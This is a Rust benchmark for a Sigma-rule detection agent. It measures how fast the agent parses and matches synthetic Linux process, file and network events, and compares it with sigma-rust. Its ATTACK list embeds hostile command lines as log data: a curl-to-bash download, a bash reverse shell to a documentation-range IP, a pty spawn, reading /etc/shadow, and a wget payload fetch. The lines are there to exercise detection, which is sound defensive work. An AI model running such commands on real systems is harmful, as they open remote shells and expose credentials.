//! Detection throughput on one thread, as ratios measured in one run (`cargo xtask bench`
//! drives it; `cargo bench --bench detection` runs it alone).
//!
//! A seeded generator writes N events in the replay line format, mixed as on a server: 80 %
//! process creations with parent fields (command lines of real server work, ~1 % attack-like),
//! 12 % file creations (logs, caches, builds, uploads), 8 % network connections (databases,
//! HTTPS, DNS, SSH). Measured, each as the median of alternating rounds with every round kept:
//! the JSONL parse alone; detection with the SigmaHQ Linux rules; detection with the 1,183
//! scale rules added (Windows rules relabelled for Linux, to measure rule-count scaling);
//! sigma-rust 0.7 (the design card's engine) on the same rules and process events; and, with
//! `--aurora BIN`, what a user sees: `aurora replay FILE` from start to exit (rule loading,
//! parsing, detection, alerts written to a file) with its peak RSS.
//! Detection runs with the default per-rule throttle on event time, as `aurora replay` does:
//! several scale rules (e.g. "Execution Of Non-Existing File") match every Linux event, and
//! without a throttle the figure would measure alert construction, not rule evaluation.
#[path = "../../tests/common/testdata.rs"]
mod testdata;
use std::path::PathBuf;
use std::sync::Arc;
use std::time::Instant;

use aurora_agent::detect::{DetectConfig, Detector};
use aurora_agent::event::Event;
use aurora_agent::sources::replay::parse::parse_line;
use aurora_agent::stats::DetectStats;

struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        // xorshift64*: deterministic, fast, good enough for picking templates.
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_F491_4F6C_DD1D)
    }
    fn pick<'a, T>(&mut self, v: &'a [T]) -> &'a T {
        &v[(self.next() % v.len() as u64) as usize]
    }
}

const BENIGN: &[(&str, &str)] = &[
    ("/usr/bin/ls", "ls -la /var/log/nginx"),
    ("/usr/bin/grep", "grep -rn TODO src/module_{n}"),
    ("/usr/bin/git", "git status --porcelain"),
    ("/usr/bin/git", "git log --oneline -n {n}"),
    ("/usr/bin/python3.11", "python3 manage.py migrate --noinput"),
    ("/usr/bin/systemctl", "systemctl is-active nginx.service"),
    ("/usr/bin/cat", "cat /srv/app/config/settings_{n}.yaml"),
    ("/usr/bin/ps", "ps -eo pid,ppid,cmd"),
    ("/usr/bin/sed", "sed -n 1,{n}p /var/log/app.log"),
    ("/usr/bin/find", "find /srv/app -name *.pyc -mtime +{n}"),
    ("/usr/bin/tar", "tar czf /backup/srv-{n}.tar.gz /srv/data"),
    ("/usr/bin/awk", "awk {print $1} /var/log/nginx/access.log"),
    ("/usr/bin/docker", "docker ps --format {{.Names}}"),
    ("/usr/bin/make", "make -j2 all"),
    (
        "/usr/bin/gcc",
        "gcc -O2 -c src/file_{n}.c -o build/file_{n}.o",
    ),
    (
        "/usr/bin/ssh",
        "ssh -o BatchMode=yes deploy@10.1.2.{n} uptime",
    ),
    ("/usr/bin/rsync", "rsync -a /srv/www/ mirror:/srv/www/"),
    ("/usr/bin/du", "du -sh /home/user{n}"),
    (
        "/usr/bin/journalctl",
        "journalctl -u nginx --since -{n}min --no-pager",
    ),
    ("/usr/bin/node", "node /srv/api/server.js --port 30{n}"),
    ("/usr/bin/java", "java -Xmx512m -jar /opt/app/app.jar"),
    ("/usr/bin/sort", "sort -u /tmp/sessions_{n}.txt"),
    ("/usr/sbin/logrotate", "logrotate /etc/logrotate.conf"),
    ("/usr/bin/apt-get", "apt-get -qq update"),
];

const ATTACK: &[(&str, &str)] = &[
    ("/usr/bin/base64", "base64 -d /tmp/.x{n}"),
    (
        "/usr/bin/bash",
        "bash -c curl -s http://203.0.113.{n}/i.sh | bash",
    ),
    (
        "/usr/bin/bash",
        "bash -i >& /dev/tcp/203.0.113.{n}/4444 0>&1",
    ),
    ("/usr/bin/chmod", "chmod +x /tmp/.cache{n}"),
    (
        "/usr/bin/python3.11",
        "python3 -c import pty;pty.spawn('/bin/bash')",
    ),
    ("/usr/bin/cat", "cat /etc/shadow"),
    ("/usr/bin/find", "find / -perm -4000 -type f"),
    ("/usr/bin/wget", "wget -q http://203.0.113.{n}/x -O /tmp/x"),
];

const PARENTS: &[(&str, &str)] = &[
    ("/usr/bin/bash", "-bash"),
    ("/usr/sbin/sshd", "sshd: deploy@pts/0"),
    ("/usr/sbin/cron", "/usr/sbin/CRON -f"),
    ("/usr/lib/systemd/systemd", "/sbin/init"),
    ("/usr/bin/python3.11", "python3 worker.py"),
];

const FILES: &[(&str, &str)] = &[
    ("/usr/sbin/nginx", "/var/log/nginx/access.log.{n}"),
    (
        "/usr/bin/python3.11",
        "/srv/app/__pycache__/views_{n}.cpython-311.pyc",
    ),
    ("/usr/bin/gcc", "/srv/build/obj/file_{n}.o"),
    ("/usr/bin/java", "/opt/app/tmp/upload_{n}.part"),
    ("/usr/bin/tar", "/backup/srv-{n}.tar.gz"),
    ("/usr/sbin/logrotate", "/var/log/app.log.{n}.gz"),
    ("/usr/bin/node", "/srv/api/cache/session_{n}.json"),
    ("/usr/bin/bash", "/tmp/sh-thd-{n}"),
];

const CONNECTS: &[(&str, &str, u16)] = &[
    ("/usr/bin/python3.11", "10.0.3.{n}", 5432),
    ("/usr/bin/node", "10.0.4.{n}", 6379),
    ("/usr/bin/curl", "151.101.2.{n}", 443),
    ("/usr/bin/ssh", "10.1.2.{n}", 22),
    ("/usr/sbin/nginx", "10.0.5.{n}", 8080),
    ("/usr/lib/systemd/systemd-resolved", "10.0.0.{n}", 53),
];

/// One process creation (with parent fields), file creation or connection, as JSON.
fn event(r: &mut Rng, i: usize) -> serde_json::Value {
    let time = format!(
        "2026-01-01 00:{:02}:{:02}.{:03}",
        (i / 60000) % 60,
        (i / 1000) % 60,
        i % 1000
    );
    let n = (r.next() % 250).to_string();
    let guid = format!("{{00000000-0000-0000-0000-{i:012x}}}");
    let roll = r.next() % 100;
    if roll < 12 {
        let (image, path) = *r.pick(FILES);
        return serde_json::json!({
            "EventID": 11, "UtcTime": time, "ProcessGuid": guid, "ProcessId": 10000 + i,
            "Image": image, "TargetFilename": path.replace("{n}", &n),
            "CreationUtcTime": time, "User": "www-data",
        });
    }
    if roll < 20 {
        let (image, ip, port) = *r.pick(CONNECTS);
        return serde_json::json!({
            "EventID": 3, "UtcTime": time, "ProcessGuid": guid, "ProcessId": 10000 + i,
            "Image": image, "User": "deploy", "Protocol": "tcp", "Initiated": "true",
            "SourceIsIpv6": "false", "SourceIp": "10.0.1.15", "SourcePort": 40000 + i % 20000,
            "DestinationIsIpv6": "false", "DestinationIp": ip.replace("{n}", &n),
            "DestinationPort": port,
        });
    }
    let (image, cmd) = if r.next().is_multiple_of(100) {
        *r.pick(ATTACK)
    } else {
        *r.pick(BENIGN)
    };
    let (pimage, pcmd) = *r.pick(PARENTS);
    let user = *r.pick(&["root", "deploy", "www-data"]);
    serde_json::json!({
        "EventID": 1, "UtcTime": time, "ProcessGuid": guid, "ProcessId": 10000 + i,
        "Image": image, "CommandLine": cmd.replace("{n}", &n), "CurrentDirectory": "/srv/app",
        "User": user, "LogonId": 1000, "ParentProcessId": 500 + (i % 50),
        "ParentImage": pimage, "ParentCommandLine": pcmd, "ParentUser": "root",
    })
}

fn generate(n: usize, seed: u64) -> Vec<String> {
    let mut r = Rng(seed);
    (0..n).map(|i| event(&mut r, i).to_string()).collect()
}

/// `aurora replay` of `file` with the SigmaHQ rules, alerts to a file: (events/s start to
/// exit, peak RSS in MB). The peak is the child's own VmHWM, read until it exits (a spawned
/// child's rusage would count the parent's pages it shared before exec).
fn e2e_round(
    aurora: &std::path::Path,
    sigmahq: &std::path::Path,
    file: &std::path::Path,
    n: usize,
    one_cpu: bool,
) -> (f64, f64) {
    let alerts = file.with_extension("alerts");
    let t = Instant::now();
    // On one CPU (taskset, which execs aurora in place): rule loading cannot use a second
    // core either — the figure for a single-threaded budget.
    let mut cmd = if one_cpu {
        let mut c = std::process::Command::new("taskset");
        c.args(["-c", "0"]).arg(aurora);
        c
    } else {
        std::process::Command::new(aurora)
    };
    let mut child = cmd
        .args(["replay", "--no-stdout", "--rules"])
        .arg(sigmahq)
        .arg("--logfile")
        .arg(&alerts)
        .arg(file)
        .stderr(std::process::Stdio::null())
        .spawn()
        .expect("aurora replay");
    let status_path = format!("/proc/{}/status", child.id());
    let exited = std::sync::atomic::AtomicBool::new(false);
    // The peak is sampled on a second thread, so that the clock stops when the child exits
    // rather than at the next sample.
    let (status, secs, hwm_kb) = std::thread::scope(|s| {
        let sampler = s.spawn(|| {
            let mut hwm_kb = 0f64;
            while !exited.load(std::sync::atomic::Ordering::Relaxed) {
                let kb = std::fs::read_to_string(&status_path)
                    .ok()
                    .and_then(|s| {
                        s.lines()
                            .find_map(|l| l.strip_prefix("VmHWM:"))
                            .and_then(|v| {
                                v.trim().trim_end_matches("kB").trim().parse::<f64>().ok()
                            })
                    })
                    .unwrap_or(0.0);
                hwm_kb = hwm_kb.max(kb);
                std::thread::sleep(std::time::Duration::from_millis(5));
            }
            hwm_kb
        });
        let status = child.wait().expect("waiting for aurora replay");
        let secs = t.elapsed().as_secs_f64();
        exited.store(true, std::sync::atomic::Ordering::Relaxed);
        (status, secs, sampler.join().expect("VmHWM sampler"))
    });
    assert!(status.success(), "aurora replay failed");
    (n as f64 / secs, hwm_kb / 1024.0)
}

fn median(mut v: Vec<f64>) -> f64 {
    v.sort_by(|a, b| a.total_cmp(b));
    v[v.len() / 2]
}

fn detector(dirs: Vec<PathBuf>) -> Detector {
    // The production default: 1 alert/rule/s, burst 5, on event time (as replay runs it).
    let cfg = DetectConfig {
        rule_dirs: dirs,
        event_time_throttle: true,
        ..Default::default()
    };
    Detector::load(&cfg, Arc::new(DetectStats::default())).expect("rules load")
}

/// Events/s and alerts for one pass of `d` over `events`.
fn detect_pass(d: &mut Detector, events: &[Event]) -> (f64, usize) {
    let mut out = Vec::new();
    let mut alerts = 0;
    let t = Instant::now();
    for e in events {
        d.evaluate(e, &mut out);
        alerts += out.len();
        out.clear();
    }
    (events.len() as f64 / t.elapsed().as_secs_f64(), alerts)
}

fn arg(name: &str) -> Option<String> {
    let a: Vec<String> = std::env::args().collect();
    a.iter()
        .position(|x| x == name)
        .and_then(|i| a.get(i + 1).cloned())
}

/// Our detection rounds: (parse, SigmaHQ, SigmaHQ + scale) events/s per round, alerts, rules.
struct Ours {
    parse: Vec<f64>,
    base: Vec<f64>,
    scaled: Vec<f64>,
    base_alerts: usize,
    scaled_alerts: usize,
    base_rules: usize,
    scaled_rules: usize,
}

fn measure_ours(
    lines: &[String],
    events: &[Event],
    rounds: usize,
    sigmahq: &std::path::Path,
    scale: &std::path::Path,
) -> (Ours, Detector) {
    let mut base = detector(vec![sigmahq.to_owned()]);
    // Both with the built-in mapping: the scale set's rules are relabelled `product: linux`, so
    // they join SigmaHQ's process_creation set, and every other SigmaHQ rule stays active in
    // both detectors (a mapping of process_creation alone would leave SigmaHQ's file and
    // network rules out of the scaled one, and the cost would read low).
    let mut scaled = detector(vec![sigmahq.to_owned(), scale.to_owned()]);
    let mut o = Ours {
        parse: vec![],
        base: vec![],
        scaled: vec![],
        base_alerts: 0,
        scaled_alerts: 0,
        base_rules: base.rule_count(),
        scaled_rules: scaled.rule_count(),
    };
    for round in 0..rounds {
        let t = Instant::now();
        let mut k = 0;
        for l in lines {
            k += parse_line(l).ok().flatten().map_or(0, |e| e.fields.len());
        }
        std::hint::black_box(k);
        o.parse.push(lines.len() as f64 / t.elapsed().as_secs_f64());
        // Alerts of the first round (later rounds replay the same event times: budgets spent).
        // The order alternates: whichever detector runs second finds the caches warm (or the
        // machine in another mood), which moved the scale cost by tens of percent.
        let (base_pass, scaled_pass) = if round % 2 == 0 {
            let b = detect_pass(&mut base, events);
            (b, detect_pass(&mut scaled, events))
        } else {
            let s = detect_pass(&mut scaled, events);
            (detect_pass(&mut base, events), s)
        };
        o.base.push(base_pass.0);
        o.base_alerts = o.base_alerts.max(base_pass.1);
        o.scaled.push(scaled_pass.0);
        o.scaled_alerts = o.scaled_alerts.max(scaled_pass.1);
    }
    (o, base)
}

/// sigma-rust 0.7 on the same active process_creation rules and process events, with our
/// unthrottled matches on the same events: (events/s per round, its matches, ours, rules).
fn measure_sigma_rust(
    base: &Detector,
    process_lines: &[&String],
    rounds: usize,
    sigmahq: &std::path::Path,
) -> (Vec<f64>, usize, usize, usize) {
    let mut sr_rules = Vec::new();
    for e in &base.entries {
        if matches!(e.status, aurora_agent::detect::rules::RuleStatus::Active { kind, .. } if kind == aurora_agent::event::EventKind::ProcessCreation)
        {
            if let Ok(r) = sigma_rust::rule_from_yaml(&std::fs::read_to_string(&e.path).unwrap()) {
                sr_rules.push(r);
            }
        }
    }
    let sr_events_v: Vec<sigma_rust::Event> = process_lines
        .iter()
        .map(|l| sigma_rust::event_from_json(l.as_str()).unwrap())
        .collect();
    let (mut eps, mut matches) = (vec![], 0);
    for _ in 0..rounds {
        let t = Instant::now();
        let mut m = 0;
        for ev in &sr_events_v {
            m += sr_rules.iter().filter(|r| r.is_match(ev)).count();
        }
        eps.push(sr_events_v.len() as f64 / t.elapsed().as_secs_f64());
        matches = m;
    }
    let mut unthrottled = Detector::load(
        &DetectConfig {
            rule_dirs: vec![sigmahq.to_owned()],
            throttle_rate: 0.0,
            ..Default::default()
        },
        Arc::new(DetectStats::default()),
    )
    .expect("rules load");
    let parsed: Vec<Event> = process_lines
        .iter()
        .filter_map(|l| parse_line(l).ok().flatten())
        .collect();
    let (_, ours) = detect_pass(&mut unthrottled, &parsed);
    (eps, matches, ours, sr_rules.len())
}

/// `aurora replay` end to end, as a user runs it, per round: events/s, peak RSS MB, and
/// events/s pinned to one CPU (alternating with the free runs).
#[derive(Default)]
struct E2e {
    eps: Vec<f64>,
    rss: Vec<f64>,
    eps_one_cpu: Vec<f64>,
}

fn measure_e2e(
    aurora: &std::path::Path,
    lines: &[String],
    rounds: usize,
    sigmahq: &std::path::Path,
    tmp: &std::path::Path,
) -> E2e {
    let file = tmp.join("events.jsonl");
    std::fs::write(&file, lines.join("\n") + "\n").unwrap();
    let mut m = E2e::default();
    for _ in 0..rounds {
        let (e, r) = e2e_round(aurora, sigmahq, &file, lines.len(), false);
        m.eps.push(e.round());
        m.rss.push((r * 10.0).round() / 10.0);
        let (e, _) = e2e_round(aurora, sigmahq, &file, lines.len(), true);
        m.eps_one_cpu.push(e.round());
    }
    m
}

fn main() {
    let root = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("..");
    let n: usize = arg("--events")
        .and_then(|s| s.parse().ok())
        .unwrap_or(200_000);
    let rounds: usize = arg("--rounds").and_then(|s| s.parse().ok()).unwrap_or(3);
    let sigmahq = arg("--sigmahq")
        .map(PathBuf::from)
        .unwrap_or_else(|| testdata::require(testdata::Corpus::SigmaHq, &root));
    let scale = arg("--scale")
        .map(PathBuf::from)
        .unwrap_or_else(|| testdata::require(testdata::Corpus::SigmaHqScale, &root));
    let sr_events: usize = arg("--sigma-rust-events")
        .and_then(|s| s.parse().ok())
        .unwrap_or(20_000);

    let lines = generate(n, 0x5eed_a0a0);
    // For profiling `aurora replay` on exactly the bench's input.
    if let Some(out) = arg("--write-events") {
        std::fs::write(out, lines.join("\n") + "\n").unwrap();
        return;
    }
    let process_lines: Vec<&String> = lines
        .iter()
        .filter(|l| l.contains("\"EventID\":1,"))
        .take(sr_events)
        .collect();
    let bytes: usize = lines.iter().map(|l| l.len() + 1).sum();
    let events: Vec<Event> = lines
        .iter()
        .filter_map(|l| parse_line(l).ok().flatten())
        .collect();
    assert_eq!(events.len(), n);
    let tmp = tempfile::tempdir().unwrap();
    let (o, base) = measure_ours(&lines, &events, rounds, &sigmahq, &scale);
    let (sr_eps, sr_matches, our_matches, sr_rules) =
        measure_sigma_rust(&base, &process_lines, rounds, &sigmahq);
    let e2e = match arg("--aurora") {
        Some(a) => measure_e2e(
            std::path::Path::new(&a),
            &lines,
            rounds,
            &sigmahq,
            tmp.path(),
        ),
        None => E2e::default(),
    };
    let rounded = |v: &[f64]| v.iter().map(|x| x.round()).collect::<Vec<_>>();
    let (parse_rounds, base_rounds) = (rounded(&o.parse), rounded(&o.base));
    let scale_ratios: Vec<f64> = o
        .base
        .iter()
        .zip(&o.scaled)
        .map(|(b, s)| b / s - 1.0)
        .collect();
    let scale_cost_rounds: Vec<f64> = scale_ratios
        .iter()
        .map(|c| (c * 1000.0).round() / 10.0)
        .collect();
    let scale_cost = median(scale_ratios);
    let (p, b, s, r) = (
        median(o.parse),
        median(o.base),
        median(o.scaled),
        median(sr_eps),
    );
    let e2e_median = |v: &[f64]| (!v.is_empty()).then(|| median(v.to_vec()));
    let result = serde_json::json!({
        "events": n,
        "jsonl_bytes": bytes,
        "rounds": rounds,
        "mix": "80 % process creation, 12 % file creation, 8 % network connection",
        "parse_events_per_s": p.round(),
        "parse_events_per_s_per_round": parse_rounds,
        "sigmahq_events_per_s_per_round": base_rounds,
        "e2e_replay_events_per_s": e2e_median(&e2e.eps),
        "e2e_replay_events_per_s_per_round": e2e.eps,
        "e2e_replay_one_cpu_events_per_s": e2e_median(&e2e.eps_one_cpu),
        "e2e_replay_one_cpu_events_per_s_per_round": e2e.eps_one_cpu,
        "e2e_replay_max_rss_mb_per_round": e2e.rss,
        "sigmahq_rules": o.base_rules,
        "sigmahq_events_per_s": b.round(),
        "sigmahq_alerts_after_throttle": o.base_alerts,
        "with_scale_rules": o.scaled_rules,
        "with_scale_events_per_s": s.round(),
        "with_scale_alerts_after_throttle": o.scaled_alerts,
        // The median of per-round ratios: neighbouring passes share the machine's state.
        "scale_cost_pct": (scale_cost * 100.0 * 10.0).round() / 10.0,
        "scale_cost_pct_per_round": scale_cost_rounds,
        "parse_plus_detect_events_per_s": (1.0 / (1.0 / p + 1.0 / b)).round(),
        "sigma_rust_rules": sr_rules,
        "sigma_rust_events": process_lines.len(),
        "sigma_rust_events_per_s": r.round(),
        "sigma_rust_matches": sr_matches,
        "aurora_matches_same_events": our_matches,
        "speedup_vs_sigma_rust": (b / r * 10.0).round() / 10.0,
    });
    println!("{}", serde_json::to_string_pretty(&result).unwrap());
    if let Some(out) = arg("--json-out") {
        std::fs::write(out, result.to_string()).unwrap();
    }
}
